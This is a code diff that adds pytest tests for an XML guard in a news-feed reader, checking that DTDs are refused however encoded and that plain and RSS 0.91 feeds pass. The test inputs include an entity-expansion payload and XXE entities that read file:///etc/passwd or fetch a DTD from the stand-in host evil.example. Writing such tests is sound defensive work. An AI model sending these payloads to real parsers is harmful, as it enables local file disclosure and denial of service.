@@ -3,6 +3,8 @@
 from datetime import datetime, timezone
 from pathlib import Path
 
+import pytest
+
 from unspin.read import read_path
 from unspin.read.feed import read_feed
 from unspin.types import Article, ReadError
@@ -77,3 +79,60 @@ def read_feed_safely(data: bytes):
         yield from read_feed(data, "evil.xml")
     except ReadFailure as exc:
         yield ReadError(source="evil.xml", reason=exc.reason)
+
+
+LAUGHS = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+ITEMS = '<rss version="2.0"><channel><title>T</title><item><title>&b;</title><description>x</description></item></channel></rss>'
+
+
+def _guarded(data: bytes) -> str | None:
+    """The refusal's reason, or None when the guard lets the document through."""
+    from unspin.read.errors import ReadFailure
+    from unspin.read.xmlguard import refuse_dtd
+
+    try:
+        refuse_dtd(data, "feed.xml")
+    except ReadFailure as exc:
+        return exc.reason
+    return None
+
+
+@pytest.mark.parametrize("name, data", [
+    ("long comment first", ('<?xml version="1.0"?><!--' + "x" * 70_000 + "-->" + LAUGHS + ITEMS).encode()),
+    ("utf-16 with a BOM", ('<?xml version="1.0" encoding="utf-16"?>' + LAUGHS + ITEMS).encode("utf-16")),
+    ("utf-16 without a BOM", ('<?xml version="1.0" encoding="utf-16le"?>' + LAUGHS + ITEMS).encode("utf-16-le")),
+    ("utf-32", ('<?xml version="1.0" encoding="utf-32"?>' + LAUGHS + ITEMS).encode("utf-32")),
+    ("external DTD", b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd">' + ITEMS.encode()),
+    ("external entity", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
+     + ITEMS.encode()),
+    ("parameter entity", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
+     + ITEMS.encode()),
+    ("RSS 0.91 DOCTYPE with entities", b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC '
+     b'"-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd" '
+     b'[<!ENTITY b "boom">]>' + ITEMS.encode()),
+    ("broken XML, declaration after the break", b'<?xml version="1.0"?><rss><channel></oops>'
+     + LAUGHS.encode() + ITEMS.encode()),
+    ("broken utf-16", ('<?xml version="1.0" encoding="utf-16"?><rss></oops>' + LAUGHS + ITEMS).encode("utf-16")),
+])
+def test_dtds_are_refused_wherever_and_however_encoded(name, data):
+    reason = _guarded(data)
+    assert reason is not None and "refused for safety" in reason, name
+    results = list(read_feed_safely(data))
+    assert len(results) == 1 and isinstance(results[0], ReadError), name
+
+
+def test_plain_feeds_and_the_rss_091_doctype_pass():
+    plain = ('<?xml version="1.0" encoding="utf-16"?><!-- a comment that mentions <!ENTITY> -->'
+             '<rss version="2.0"><channel><title>T</title><item><title>Ferry strike</title>'
+             '<description><![CDATA[<p>Crews <b>stopped</b> work; "<!DOCTYPE" appears in CDATA.</p>]]></description>'
+             '</item></channel></rss>').encode("utf-16")
+    assert _guarded(plain) is None
+    rss091 = (b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE rss PUBLIC '
+              b'"-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
+              b'<rss version="0.91"><channel><title>Old feed</title><link>http://example.org/</link>'
+              b'<description>d</description><item><title>Caf\xe9 reopens</title>'
+              b'<description>The caf\xe9 on the square reopened on Monday after a fire.</description></item>'
+              b'</channel></rss>')
+    assert _guarded(rss091) is None
+    (article,) = read_feed_safely(rss091)
+    assert isinstance(article, Article) and article.title_text == "Café reopens"
